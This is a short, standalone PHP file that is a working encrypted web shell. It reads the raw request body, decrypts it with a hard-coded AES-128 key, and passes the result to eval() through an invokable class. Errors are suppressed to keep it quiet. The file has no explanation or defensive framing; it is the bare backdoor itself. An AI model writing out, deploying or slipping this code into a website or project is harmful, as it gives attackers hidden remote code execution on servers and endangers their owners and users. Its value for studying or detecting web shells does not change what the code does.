<?php
@error_reporting(0);
session_start();
    $secret="5284cb0f07586926";
    $_SESSION['s']=$secret;
    session_write_close();
    $body=file_get_contents("php://input");
    $body=openssl_decrypt($body, "AES128", $secret);
    $parts=explode('|',$body);
    $args=$parts[1];
    class Q{public function __invoke($p) {eval($p."");}}
    @call_user_func(new Q(),$args);
?>
